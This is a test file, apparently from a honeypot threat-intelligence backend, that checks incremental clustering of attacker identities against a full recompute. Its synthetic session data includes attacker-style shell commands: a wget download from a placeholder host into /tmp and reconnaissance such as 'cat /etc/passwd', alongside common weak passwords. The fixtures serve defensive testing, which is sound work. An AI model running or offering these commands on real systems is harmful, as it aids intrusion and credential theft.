// Incremental clustering equals a full recompute: a seeded stream of ingest-like changes (new
// addresses, fingerprints, sessions, credentials, payloads, ASN changes, deletions, analysts'
// merges and splits) with a small "common" threshold so keys cross it both ways; after every
// incremental run a full run on the same database must change nothing (identities, ids, members,
// edges, aggregates, campaigns, key index), and at the end a from-scratch run gives the same clusters.
import { beforeAll, describe, expect, it } from 'vitest';
import { q, type RawSql } from '../../db/raw-sql';
import type { AppDeps } from '../../deps';
import { memoryDeps } from '../../testing/memory-deps';
import { mulberry32 } from '../../testing/identity-scenarios';
import { shortHash } from '../intel/aggregate';
import { mergeIdentities, unmergeAttacker } from './manual';
import { runIdentities } from './run';

const COMMON_MIN = 6;
const STEPS = 14;
const T0 = Date.UTC(2026, 2, 1);
const ACTORS = 9;

type Deps = Awaited<ReturnType<typeof memoryDeps>>;

const TABLES = [
  'SELECT attacker_id, identity_id FROM identity_members ORDER BY 1',
  'SELECT id, first_seen_ms, last_seen_ms, member_count, summary_json FROM identities ORDER BY 1',
  'SELECT a_id, b_id, weight, manual, evidence_json FROM identity_edges ORDER BY 1, 2',
  'SELECT identity_id, agg_json FROM identity_aggregates ORDER BY 1',
  'SELECT id, first_seen_ms, last_seen_ms, identity_count, evidence_json FROM campaigns ORDER BY 1',
  'SELECT identity_id, campaign_id FROM campaign_members ORDER BY 1',
  'SELECT key, attacker_id FROM identity_keys ORDER BY 1, 2',
  'SELECT key, holders FROM identity_key_counts ORDER BY 1',
];

async function snapshot(deps: AppDeps): Promise<unknown[][][]> {
  return (await deps.rawBatch(TABLES.map((t) => q.raw(t)))).map((r) => r.rows);
}

/** Clusters as sets of member ips (ids aside), and edges by address pair. */
async function clusters(deps: AppDeps): Promise<{ groups: string[]; edges: string[] }> {
  const [m, e] = await deps.rawBatch([
    q`SELECT m.identity_id, a.ip FROM identity_members m JOIN attackers a ON a.id = m.attacker_id ORDER BY a.ip`,
    q`SELECT x.ip, y.ip, e.weight, e.manual, e.evidence_json FROM identity_edges e JOIN attackers x ON x.id = e.a_id JOIN attackers y ON y.id = e.b_id`,
  ]);
  const byId = new Map<string, string[]>();
  for (const [id, ip] of m!.rows) byId.set(String(id), [...(byId.get(String(id)) ?? []), String(ip)]);
  return { groups: [...byId.values()].map((g) => g.join(',')).sort(), edges: e!.rows.map((r) => r.join('|')).sort() };
}

/** Ingest-like writes: every change touches the attacker row, as the fold does in its transaction. */
class Stream {
  private readonly r = mulberry32(99);
  private readonly live: { id: string; ip: string; actor: number }[] = [];
  private n = 0;
  private clock = T0;
  constructor(private readonly deps: Deps) {}

  private pick<T>(xs: readonly T[]): T {
    return xs[Math.floor(this.r() * xs.length)]!;
  }

  private touch(id: string, ts: number): RawSql {
    return q`UPDATE attackers SET event_count = event_count + 1, last_seen_ms = max(last_seen_ms, ${ts}) WHERE id = ${id}`;
  }

  private add(actor: number): RawSql[] {
    const ip = `198.18.${this.n >> 8}.${this.n & 255}`;
    this.n++;
    const id = shortHash(`attacker:${ip}`);
    this.live.push({ id, ip, actor });
    const ts = (this.clock += 60_000);
    return [
      q`INSERT INTO attackers (id, ip, first_seen_ms, last_seen_ms, event_count) VALUES (${id}, ${ip}, ${ts}, ${ts}, 1)`,
      q`INSERT INTO attacker_enrichment (attacker_id, ip, scope, country, asn, enriched_at_ms, ptr_status) VALUES (${id}, ${ip}, 'public', 'NL', ${64500 + (actor % 3)}, ${ts}, 'none')`,
    ];
  }

  /** One change to a live address, drawn from the kinds of evidence identity resolution reads. */
  private change(): RawSql[] {
    const a = this.pick(this.live);
    const ts = (this.clock += 1000);
    const k = this.r();
    const own = a.actor >= 0;
    if (k < 0.2) {
      const value = own && this.r() < 0.7 ? shortHash(`hassh${a.actor}`) : this.pick(['c'.repeat(32), 'd'.repeat(32)]);
      return [q`INSERT INTO attacker_fingerprints (attacker_id, kind, value, first_seen_ms, last_seen_ms, count) VALUES (${a.id}, 'hassh', ${value}, ${ts}, ${ts}, 1) ON CONFLICT DO NOTHING`, this.touch(a.id, ts)];
    }
    if (k < 0.45) {
      const pool = ['uname -a', 'nproc', 'free -m', 'cat /proc/cpuinfo', 'cat /etc/passwd', 'id', 'w'];
      const cmds = own && this.r() < 0.6 ? [`wget http://h${a.actor}.test/x -O /tmp/x`, `cd /opt/a${a.actor}`, 'ls -la', 'id'] : [this.pick(pool), this.pick(pool), this.pick(pool), this.pick(pool)];
      const json = JSON.stringify(cmds.map((cmd) => ({ ts: new Date(ts).toISOString(), cmd })));
      return [q`INSERT INTO sessions (id, attacker_id, src_ip, decky, service, started_at_ms, last_seen_ms, event_count, command_count, commands_json) VALUES (${shortHash(`s${ts}`)}, ${a.id}, ${a.ip}, ${this.pick(['web-01', 'db-01'])}, 'ssh', ${ts}, ${ts}, 4, 4, ${json})`, this.touch(a.id, ts)];
    }
    if (k < 0.7) {
      const users = own ? [`u${a.actor}`, 'root', 'admin'] : ['root', 'admin', 'pi'];
      const [user, pass] = [this.pick(users), this.pick(['123456', 'password', 'toor', `pw${a.actor}`])];
      const sha = shortHash(`secret:${pass}`);
      return [
        q`INSERT INTO credentials (id, secret_sha256, kind, principal, secret_printable, secret_b64, attempts, first_seen_ms, last_seen_ms, attacker_ips_json) VALUES (${shortHash(`${user}:${pass}`)}, ${sha}, 'password', ${user}, ${pass}, '', 1, ${ts}, ${ts}, json_array(${a.ip}))
          ON CONFLICT(secret_sha256, kind, principal) DO UPDATE SET attacker_ips_json = CASE WHEN EXISTS (SELECT 1 FROM json_each(credentials.attacker_ips_json) WHERE value = ${a.ip}) THEN credentials.attacker_ips_json ELSE json_insert(credentials.attacker_ips_json, '$[#]', ${a.ip}) END`,
        this.touch(a.id, ts),
      ];
    }
    if (k < 0.8 && own) return [q`INSERT INTO artifacts (id, sha256, size, decky, service, attacker_id, src_ip, ts_ms) VALUES (${shortHash(`f${ts}`)}, ${shortHash(`payload${a.actor}`)}, 10, 'web-01', 'ssh', ${a.id}, ${a.ip}, ${ts})`, this.touch(a.id, ts)];
    if (k < 0.9) return [q`UPDATE attacker_enrichment SET asn = ${64500 + Math.floor(this.r() * 4)} WHERE attacker_id = ${a.id}`];
    if (this.live.length < 20) return [];
    this.live.splice(this.live.indexOf(a), 1);
    return ['attackers', 'attacker_fingerprints', 'sessions', 'artifacts', 'attacker_enrichment'].map((t) => q`DELETE FROM ${q.raw(t)} WHERE ${q.raw(t === 'attackers' ? 'id' : 'attacker_id')} = ${a.id}`);
  }

  async step(i: number): Promise<void> {
    const st: RawSql[] = [];
    const fresh = i === 0 ? 120 : 3;
    for (let k = 0; k < fresh; k++) st.push(...this.add(this.r() < 0.6 ? Math.floor(this.r() * ACTORS) : -1));
    await this.deps.rawBatch(st);
    // Changes in several transactions, as batches arrive.
    for (let b = 0; b < 3; b++) await this.deps.rawBatch(Array.from({ length: i === 0 ? 150 : 4 }, () => this.change()).flat());
    // A client that spreads: two more holders per step, so it becomes common (and stops joining) mid-wave.
    const wave = shortHash(`wave${Math.floor(i / 5)}`);
    const st2: RawSql[] = [];
    for (let k = 0; k < 2; k++) {
      const a = this.pick(this.live);
      const ts = (this.clock += 1000);
      st2.push(q`INSERT INTO attacker_fingerprints (attacker_id, kind, value, first_seen_ms, last_seen_ms, count) VALUES (${a.id}, 'ja3', ${wave}, ${ts}, ${ts}, 1) ON CONFLICT DO NOTHING`, this.touch(a.id, ts));
    }
    await this.deps.rawBatch(st2);
  }

  get addresses(): readonly { id: string; ip: string }[] {
    return this.live;
  }
}

describe('incremental identity clustering', () => {
  let deps: Deps;
  let stream: Stream;
  const modes: string[] = [];
  beforeAll(async () => {
    deps = await memoryDeps({}, { now: T0 });
    stream = new Stream(deps);
  });

  it('every incremental run leaves exactly what a full recompute would write, across common-key flips, deletions and analysts', async () => {
    let incrementalChanges = 0;
    for (let i = 0; i < STEPS; i++) {
      await stream.step(i);
      deps.clock.now += 60_000;
      if (i === 6 || i === 10) {
        const [m] = await deps.rawBatch([q`SELECT identity_id, attacker_id FROM identity_members ORDER BY identity_id, attacker_id`]);
        const ids = [...new Set(m!.rows.map((r) => String(r[0])))];
        if (ids.length >= 2) await mergeIdentities(deps, { into: ids[0]!, from: ids[1]! }, 'alice', { commonMin: COMMON_MIN });
        const [after] = await deps.rawBatch([q`SELECT identity_id, attacker_id FROM identity_members ORDER BY identity_id DESC, attacker_id`]);
        const victim = after!.rows[0];
        if (victim) await unmergeAttacker(deps, String(victim[0]), String(victim[1]), 'bob', { commonMin: COMMON_MIN });
      }
      const run = await runIdentities(deps, { commonMin: COMMON_MIN });
      modes.push(run.mode ?? 'idle');
      if (i > 0) incrementalChanges += run.changes;
      const incremental = await snapshot(deps);
      deps.clock.now += 1000;
      const full = await runIdentities(deps, { force: true, full: true, commonMin: COMMON_MIN });
      expect({ step: i, changes: full.changes }).toEqual({ step: i, changes: 0 });
      expect(await snapshot(deps)).toEqual(incremental);
    }
    expect(modes[0]).toBe('full');
    // After an analyst's decision its own (incremental) run has consumed the changes: idle.
    expect(modes.slice(1).filter((m) => m === 'incremental').length, modes.join(' ')).toBeGreaterThanOrEqual(STEPS - 3);
    expect(modes.slice(1).every((m) => m !== 'full'), modes.join(' ')).toBe(true);
    expect(incrementalChanges).toBeGreaterThan(0);
    const [n] = await deps.rawBatch([q`SELECT count(*) FROM identities`, q`SELECT count(*) FROM identity_key_counts WHERE holders > ${COMMON_MIN}`]);
    expect(Number(n!.rows[0]![0])).toBeGreaterThan(2);
  });

  it('a from-scratch recompute of the final data gives the same clusters and edges', async () => {
    const before = await clusters(deps);
    await deps.rawBatch(['identity_members', 'identities', 'identity_edges', 'identity_aggregates', 'campaigns', 'campaign_members', 'identity_keys', 'identity_key_counts'].map((t) => q.raw(`DELETE FROM ${t}`)));
    await runIdentities(deps, { force: true, full: true, commonMin: COMMON_MIN });
    expect(await clusters(deps)).toEqual(before);
    expect(before.groups.length).toBeGreaterThan(2);
  });

  it('a run with nothing changed does nothing; one changed address re-reads only its region', async () => {
    expect((await runIdentities(deps, { commonMin: COMMON_MIN })).ran).toBe(false);
    const a = stream.addresses[0]!;
    await deps.rawBatch([q`UPDATE attackers SET event_count = event_count + 1 WHERE id = ${a.id}`]);
    const run = await runIdentities(deps, { commonMin: COMMON_MIN });
    expect(run).toMatchObject({ ran: true, mode: 'incremental', dirty: 1, changes: 0 });
    expect(run.attackers).toBeLessThan(stream.addresses.length);
  });

  it('a run that lost its lease to another instance writes nothing (the fence aborts its transaction)', async () => {
    const a = stream.addresses[1]!;
    await deps.rawBatch([q`UPDATE attackers SET last_seen_ms = last_seen_ms + 5 WHERE id = ${a.id}`]);
    const stolen = { ...deps, rawBatch: async (st: RawSql[]) => {
      // Another instance takes the lease just before this run writes.
      if (st.some((s) => s.text.startsWith('DELETE FROM identity_dirty'))) await deps.rawBatch([q`UPDATE identity_runs SET lease_owner = 'other', lease_until_ms = ${deps.now() + 60_000} WHERE id = 1`]);
      return deps.rawBatch(st);
    } };
    await expect(runIdentities(stolen, { owner: 'me', commonMin: COMMON_MIN })).rejects.toThrow(/NOT NULL/);
    const [d] = await deps.rawBatch([q`SELECT count(*) FROM identity_dirty WHERE attacker_id = ${a.id}`, q`UPDATE identity_runs SET lease_owner = NULL, lease_until_ms = 0`]);
    expect(Number(d!.rows[0]![0])).toBe(1);
  });
});
